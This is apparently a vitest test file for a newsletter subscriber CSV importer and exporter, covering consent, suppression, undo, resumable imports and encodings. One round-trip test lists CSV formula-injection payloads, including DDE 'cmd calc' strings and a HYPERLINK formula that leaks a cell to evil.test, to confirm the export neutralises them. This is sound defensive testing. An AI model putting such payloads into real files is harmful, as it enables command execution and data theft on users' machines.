import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeEach, expect, test } from "vitest";
import { db, inTransaction } from "@/lib/db/client";
import { forgetPending } from "../chores";
import { subscribersAsCsv } from "../export";
import { unsubscribe } from "../leave";
import { signUp } from "../sign-up";
import { suppress } from "../suppression";
import { askImported } from "./asking";
import { dryRun } from "./dry-run";
import { inspectFile } from "./file";
import { importFile, type Progress } from "./import";
import { layoutOf } from "./records";
import { undoImport } from "./undo";

const AT_ONCE = { aMinute: 60_000, atMost: 1000 };
const folder = mkdtempSync(join(tmpdir(), "possibilities-import-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

beforeEach(async () => {
  await db().importChange.deleteMany();
  await db().import.deleteMany();
  await db().subscriber.deleteMany();
  await db().suppression.deleteMany();
  await db().outboxMessage.deleteMany();
});

async function opened(text: string | Buffer) {
  const path = join(folder, "readers.csv");
  writeFileSync(path, text);
  const file = await inspectFile(path);
  const layout = layoutOf(file.sample);
  if (!layout) throw new Error("no column of addresses");
  return { file, layout };
}

async function bringIn(text: string | Buffer) {
  const { file, layout } = await opened(text);
  const refused: Progress["refused"] = [];
  const outcome = await importFile(
    file,
    layout,
    "asked for it at the fair",
    (told) => void refused.push(...told.refused),
  );
  return { ...outcome, refused };
}

async function statusOf(emailKey: string) {
  const row = await db().subscriber.findUnique({ where: { emailKey }, select: { status: true } });
  return row?.status;
}

async function csv() {
  let text = "";
  for await (const part of subscribersAsCsv()) text += part;
  return text;
}

test("an import adds readers with the owner's word for their consent and writes to nobody", async () => {
  const { counts } = await bringIn("email,name\nada@example.com,Ada Byron\ngrace@example.com,Grace\n");
  expect(counts).toEqual({ added: 2, changed: 0, unchanged: 0, refused: 0 });
  const ada = await db().subscriber.findUniqueOrThrow({ where: { emailKey: "ada@example.com" } });
  expect(ada).toMatchObject({
    name: "Ada Byron",
    status: "ACTIVE",
    ownerNote: "asked for it at the fair",
    source: "import",
  });
  expect(await db().outboxMessage.count()).toBe(0);
});

test("a reader imported as pending is not reminded by the worker either", async () => {
  await bringIn("email,status\nada@example.com,pending\n");
  const ada = await db().subscriber.findUniqueOrThrow({ where: { emailKey: "ada@example.com" } });
  expect(ada.status).toBe("PENDING");
  expect(ada.remindedAt).not.toBeNull();
});

test("an import does not revive somebody who left (listmonk 2008, Keila 259, Mailtrain 325)", async () => {
  await bringIn("email\nada@example.com\n");
  const ada = await db().subscriber.findUniqueOrThrow({ where: { emailKey: "ada@example.com" } });
  await inTransaction((tx) => unsubscribe(tx, ada.id, "visitor"));
  const { counts } = await bringIn("email,status,name\nADA@example.com,subscribed,\n");
  expect(counts).toMatchObject({ added: 0, unchanged: 1 });
  expect(await statusOf("ada@example.com")).toBe("UNSUBSCRIBED");
});

test("an import does not bring back an address that is suppressed (Ghost 25732)", async () => {
  for (const [name, reason] of [
    ["ada", "left"],
    ["grace", "complained"],
    ["edith", "dead"],
    ["mary", "erased"],
    ["joan", "never"],
  ] as const) {
    await inTransaction((tx) => suppress(tx, `${name}@example.com`, reason));
  }
  const lines = ["ada", "grace", "edith", "mary", "joan"].map((name) => `${name}@example.com\n`).join("");
  const { counts, refused } = await bringIn(`email\n${lines}`);
  expect(counts).toEqual({ added: 0, changed: 0, unchanged: 0, refused: 5 });
  expect(refused.map(({ line }) => line)).toEqual([2, 3, 4, 5, 6]);
  expect(await db().subscriber.count()).toBe(0);
});

test("a blank column unsubscribes nobody, and a false in it is not taken for true (Ghost 19658, 16268)", async () => {
  await bringIn(
    "email,subscribed_to_emails\nada@example.com,\ngrace@example.com,false\nedith@example.com,TRUE\n",
  );
  expect(await statusOf("ada@example.com")).toBe("ACTIVE");
  expect(await statusOf("grace@example.com")).toBe("UNSUBSCRIBED");
  expect(await statusOf("edith@example.com")).toBe("ACTIVE");
});

test("an import leaves a name and topics that are there as they are (Ghost 16017)", async () => {
  await db().subscriber.create({
    data: {
      id: "0000000000000001",
      email: "ada@example.com",
      emailKey: "ada@example.com",
      name: "Ada",
      topics: "cash",
      status: "ACTIVE",
      ownerNote: "friend",
      revision: 1,
    },
  });
  await bringIn("email,name\nada@example.com,Somebody Else\n");
  const ada = await db().subscriber.findUniqueOrThrow({ where: { emailKey: "ada@example.com" } });
  expect(ada).toMatchObject({ name: "Ada", topics: "cash", revision: 1 });
});

test("bounced stays bounced and blocklisted becomes unsubscribed (listmonk 2452)", async () => {
  await bringIn("email,status\nada@example.com,bounced\ngrace@example.com,blocklisted\n");
  expect(await statusOf("ada@example.com")).toBe("BOUNCED");
  expect(await statusOf("grace@example.com")).toBe("UNSUBSCRIBED");
});

test("of two lines for one address the one that says gone counts, whichever comes first", async () => {
  await bringIn(
    "email,status\nada@example.com,active\nADA@example.com,unsubscribed\ngrace@example.com,unsubscribed\nGRACE@example.com,active\n",
  );
  expect(await statusOf("ada@example.com")).toBe("UNSUBSCRIBED");
  expect(await statusOf("grace@example.com")).toBe("UNSUBSCRIBED");
});

test("a line that cannot be understood is refused with its number and the others go in", async () => {
  const { refused, counts } = await bringIn(
    'name,email,status\n"Ada\nByron",ada@example.com,active\n\nGrace,grace@example.com,active\nEdith,nonsense,active\nMary,mary@example.com,vip\nSmith, Joan,joan@example.com,active\n',
  );
  expect(counts.added).toBe(1);
  expect(refused.map(({ line }) => line)).toEqual([2, 6, 7, 8]);
});

test("a dry run tells the same as the import and writes nothing", async () => {
  const text =
    "email,status\nada@example.com,active\nada@example.com,unsubscribed\ngrace@example.com,\nx,active\n";
  const { file, layout } = await opened(text);
  const told = await dryRun(file, layout, () => {});
  expect(await db().subscriber.count()).toBe(0);
  expect(await db().import.count()).toBe(0);
  expect((await bringIn(text)).counts).toEqual(told);
});

test("an import that stopped goes on where it stopped and doubles nobody", async () => {
  const lines = Array.from({ length: 5000 }, (_, index) => `reader${index}@example.com\n`);
  const { file, layout } = await opened(`email\n${lines.join("")}`);
  const stopping = importFile(file, layout, "fair", ({ position }) => {
    if (position >= 2000) throw new Error("the power went out");
  });
  await expect(stopping).rejects.toThrow("the power went out");
  expect(await db().subscriber.count()).toBe(2000);
  const outcome = await importFile(file, layout, "fair", () => {});
  expect(outcome).toMatchObject({ resumed: true, counts: { added: 5000, refused: 0 } });
  expect(await db().subscriber.count()).toBe(5000);
});

test("undoing an import takes away what it added and gives back what it changed", async () => {
  await bringIn("email\nada@example.com\n");
  const { id } = await bringIn("email,status\nada@example.com,unsubscribed\ngrace@example.com,active\n");
  expect(await statusOf("ada@example.com")).toBe("UNSUBSCRIBED");
  expect(await undoImport(id)).toEqual({ done: true, removed: 1, restored: 1, kept: 0 });
  expect(await statusOf("ada@example.com")).toBe("ACTIVE");
  expect(await statusOf("grace@example.com")).toBeUndefined();
  expect(await undoImport(id)).toEqual({ done: false, why: "undone before" });
});

test("undoing an import does not revive somebody who left after it, though it had said so before", async () => {
  await bringIn("email\nada@example.com\ngrace@example.com\n");
  const { id } = await bringIn("email,status\nada@example.com,unsubscribed\nedith@example.com,active\n");
  for (const emailKey of ["ada@example.com", "edith@example.com"]) {
    const row = await db().subscriber.findUniqueOrThrow({ where: { emailKey } });
    await inTransaction((tx) => unsubscribe(tx, row.id, "visitor"));
  }
  expect(await undoImport(id)).toMatchObject({ removed: 0, restored: 0, kept: 2 });
  expect(await statusOf("ada@example.com")).toBe("UNSUBSCRIBED");
  expect(await statusOf("edith@example.com")).toBe("UNSUBSCRIBED");
});

test("our own export comes back letter for letter, whatever the names and addresses", async () => {
  const names = [
    "=cmd|' /C calc'!A0",
    "'=1",
    "''+x",
    "\ttab",
    "＝1+1",
    'say "hi"',
    "a;=b",
    "a,-b",
    "O'Hara",
    " space ",
    "日本",
    "🙂",
    "x|@y",
    "\u202Ebidi",
    "'",
    "-",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=         cmd|'/c calc.exe'!A",
    "+1-1;=2",
    "＠x",
    "'\t=1",
    "\u00a0nbsp\u00a0",
    "e\u0301 and \u00e9",
    "\uFEFFmark",
    "\u200Bzero\u200Dwidth",
    "a".repeat(200),
    "NULL",
    "\\N",
    "'''",
    ',;|"\t',
  ];
  const rows = names.map((name, index) => ({
    id: `row${String(index).padStart(13, "0")}`,
    email: index === 0 ? "=Ada+x@Example.com" : `Reader${index}@exämple.com`,
    emailKey: index === 0 ? "=ada+x@example.com" : `reader${index}@xn--exmple-cua.com`,
    name,
    status: ["ACTIVE", "UNSUBSCRIBED", "BOUNCED", "COMPLAINED", "PENDING"][index % 5] ?? "ACTIVE",
    signedUpAt: new Date(1700000000123 + index),
    confirmedAt: index % 2 ? new Date(1700000100000 + index) : null,
    unsubscribedAt: index % 10 === 1 ? new Date(1710000000000) : null,
    ownerNote: "by hand",
    source: index % 3 ? "/ezine/subscribe" : "owner",
    consentVersion: index % 2 ? "2026-11" : null,
    topics: index % 2 ? "cash,people" : null,
    revision: 1,
  }));
  await db().subscriber.createMany({ data: rows });
  const before = await csv();
  expect(before).not.toMatch(/(^|[\r\n;,|"\t])[=+\-@＝＋－＠]/);
  const people = () =>
    db().subscriber.findMany({ orderBy: { emailKey: "asc" }, select: { email: true, name: true } });
  const kept = await people();
  await db().subscriber.deleteMany();
  expect((await bringIn(before)).counts).toMatchObject({ added: names.length, refused: 0 });
  expect(await csv()).toBe(before);
  expect(await people()).toEqual(kept);
});

test("asking instead makes nobody active, queues one confirmation each, and asks nobody twice", async () => {
  const { file, layout } = await opened(
    "email,status\nada@example.com,active\ngrace@example.com,unsubscribed\n",
  );
  const { id } = await importFile(file, layout, "fair", () => {}, true);
  expect(await db().outboxMessage.count()).toBe(0);
  expect(await askImported(id, AT_ONCE, () => {})).toBe(1);
  expect(await askImported(id, AT_ONCE, () => {})).toBe(0);
  expect(await statusOf("ada@example.com")).toBe("PENDING");
  const messages = await db().outboxMessage.findMany({ select: { toEmail: true, kind: true } });
  expect(messages).toEqual([{ toEmail: "ada@example.com", kind: "confirm" }]);
});

test("the encoding is found: UTF-8 with and without a mark, UTF-16, Windows", async () => {
  const text = "email;name\r\nada@example.com;Bo Öst\r\n";
  const files = [
    Buffer.from(`\uFEFF${text}`),
    Buffer.from(text),
    Buffer.from(`\uFEFF${text}`, "utf16le"),
    Buffer.from(text, "latin1"),
  ];
  for (const file of files) {
    await db().subscriber.deleteMany();
    await bringIn(file);
    expect(await db().subscriber.findFirst({ select: { name: true } })).toEqual({ name: "Bo Öst" });
  }
});

test("a sign-up that waits for its confirmation is active once the owner imports it with a confirmation", async () => {
  await signUp(
    { email: { email: "ada@example.com", emailKey: "ada@example.com" }, name: null },
    { page: "/ezine/subscribe", client: "x" },
    "c",
  );
  await bringIn("email,confirm_time\nada@example.com,2024-05-05 10:00:00\n");
  expect(await statusOf("ada@example.com")).toBe("ACTIVE");
});

test("asking stops at its limit, goes on when it is called again, and asks no other import's readers", async () => {
  await bringIn("email,status\njoan@example.com,pending\n");
  const { file, layout } = await opened("email\nada@example.com\ngrace@example.com\nedith@example.com\n");
  const { id } = await importFile(file, layout, "fair", () => {}, true);
  expect(await askImported(id, { ...AT_ONCE, atMost: 2 }, () => {})).toBe(2);
  const again = await importFile(file, layout, "fair", () => {}, true);
  expect(again).toMatchObject({ id, resumed: true, counts: { added: 3 } });
  expect(await askImported(again.id, AT_ONCE, () => {})).toBe(1);
  expect(await db().outboxMessage.count({ where: { toEmail: "joan@example.com" } })).toBe(0);
});

test("whoever came to be suppressed between the import and the asking is not asked", async () => {
  const { file, layout } = await opened("email\nada@example.com\ngrace@example.com\n");
  const { id } = await importFile(file, layout, "fair", () => {}, true);
  await inTransaction((tx) => suppress(tx, "ada@example.com", "never"));
  expect(await askImported(id, AT_ONCE, () => {})).toBe(1);
  expect(await db().outboxMessage.findMany({ select: { toEmail: true } })).toEqual([
    { toEmail: "grace@example.com" },
  ]);
});

test("a sign-up that nobody confirmed in thirty days is refused, and a younger one waits as long as any", async () => {
  const day = (days: number) => new Date(Date.now() - days * 24 * 3600_000).toISOString();
  const { counts, refused } = await bringIn(
    `email,status,created_at\nada@example.com,pending,${day(31)}\ngrace@example.com,pending,${day(29)}\nedith@example.com,pending,\n`,
  );
  expect(counts).toMatchObject({ added: 2, refused: 1 });
  expect(refused).toEqual([{ line: 2, reason: "signed up more than 30 days ago and never confirmed" }]);
  expect(await forgetPending()).toBe(0);
});

test("a date that cannot be is refused with its line, but does not keep anybody who left", async () => {
  const { refused } = await bringIn(
    "email,confirmed_at,unsubscribed_at\nada@example.com,2024-02-31,\ngrace@example.com,9999-01-01,\nedith@example.com,,2024-02-31\nmary@example.com,0001-01-01 00:00:00 +0000 UTC,\njoan@example.com,,05/06/2024\n",
  );
  expect(refused.map(({ line }) => line)).toEqual([2, 3]);
  expect(refused[0]?.reason).toMatch(/2024-02-31.*cannot be/);
  expect(await statusOf("edith@example.com")).toBe("UNSUBSCRIBED");
  expect(await statusOf("mary@example.com")).toBe("ACTIVE");
  expect(await statusOf("joan@example.com")).toBe("UNSUBSCRIBED");
});

test("the same file read in another way is another import and does not go on where the first stopped", async () => {
  const { file, layout } = await opened("email,name\nada@example.com,Bo Öst\n");
  await db().import.deleteMany();
  const stop = () => {
    throw new Error("the power went out");
  };
  await expect(importFile(file, layout, "fair", stop)).rejects.toThrow("the power went out");
  const other = { ...file, encoding: "windows-1252" };
  expect((await importFile(other, layout, "fair", () => {})).resumed).toBe(false);
  expect((await importFile(file, layout, "fair", () => {})).resumed).toBe(true);
});

test("a file that is not all UTF-8, is a spreadsheet, or holds zeros is told so and never half understood", async () => {
  const good = "ada@example.com,Bo Öst\n".repeat(3);
  const mixed = Buffer.concat([
    Buffer.from(`email,name\n${good}`),
    Buffer.from("g@example.com,\xd6st\n", "latin1"),
  ]);
  await expect(opened(mixed)).rejects.toThrow("It is UTF-8 but for line 5;");
  await expect(opened(Buffer.from("PK\u0003\u0004 and so on"))).rejects.toThrow(/save it as CSV/);
  const { refused, counts } = await bringIn(
    "email,name,notes\na\0da@example.com,Ada,\ngrace@example.com,Gr\0ace,\nedith@example.com,Edith,a\0b\n",
  );
  expect(refused.map(({ line }) => line)).toEqual([2, 3]);
  expect(counts.added).toBe(1);
});

test("a quotation mark that nobody closed stops the import at its line; mended, the file adds the rest", async () => {
  const lines = (from: number, to: number) =>
    Array.from({ length: to - from }, (_, index) => `reader${from + index}@example.com,Reader\n`).join("");
  const text = `email,name\n${lines(0, 3000)}x@example.com,"Open\n${lines(3000, 9000)}`;
  await expect(bringIn(text)).rejects.toMatchObject({ line: 3002 });
  expect(await db().subscriber.count()).toBe(2000);
  const { counts } = await bringIn(text.replace('"Open', "Open"));
  expect(counts).toMatchObject({ added: 7001, unchanged: 2000, refused: 0 });
});
